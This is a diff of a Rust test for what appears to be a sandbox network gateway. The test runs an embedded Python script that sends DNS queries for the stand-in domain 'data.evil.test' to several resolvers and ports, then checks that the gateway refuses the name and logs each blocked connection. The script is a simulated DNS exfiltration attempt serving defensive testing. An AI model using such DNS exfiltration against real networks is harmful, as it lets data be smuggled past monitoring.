@@ -38,19 +38,37 @@ except OSError: pass",
 fn foreign(world: &World) -> Result<(), String> {
     let scene = Scene::new(world, &[])?;
     let trap = world.site.trap(Net::Forbidden, 53).map_err(|e| e.to_string())?;
+    let other = world.site.trap(Net::Forbidden, 5353).map_err(|e| e.to_string())?;
     let script = format!(
         "def one(server, port):
     ask('data.evil.test', 1, server, port)
     message = question('data.evil.test')
     say(server, port, len(message).to_bytes(2, 'big') + message)
-each(one, [(s, p) for s in ('{ip}', '8.8.8.8', '127.0.77.53') for p in (53, {port})])",
+each(one, [('{ip}', {port}), ('{other}', {other_port})] + [(s, p) for s in ('8.8.8.8', '127.0.77.53') for p in (53, {other_port})])",
         ip = trap.address().ip(),
         port = trap.address().port(),
+        other = other.address().ip(),
+        other_port = other.address().port(),
     );
     scene.attack(&script)?;
     empty(&trap)?;
+    empty(&other)?;
     let asked = world.site.dns().asked();
-    expect(!asked.iter().any(|q| q.name.ends_with(EVIL)), || format!("{asked:?}"))
+    expect(!asked.iter().any(|q| q.name.ends_with(EVIL)), || format!("{asked:?}"))?;
+    // At the port of DNS the gateway answers whoever was meant, and the name is what it refuses. At another port it is a
+    // connection like any other.
+    let (elsewhere, port) = (other.address().ip().to_string(), other.address().port().to_string());
+    scene.guest.told(&[
+        &[("type", "refused_name"), ("verdict", "blocked"), ("name", "data.evil.test")],
+        &[
+            ("type", "connection"),
+            ("address", "8.8.8.8"),
+            ("port", "53"),
+            ("reason", "answered by the gateway"),
+        ],
+        &[("type", "connection"), ("verdict", "blocked"), ("address", &elsewhere), ("port", &port)],
+        &[("type", "connection"), ("verdict", "blocked"), ("address", "8.8.8.8"), ("port", &port)],
+    ])
 }
 
 fn over_https(world: &World) -> Result<(), String> {
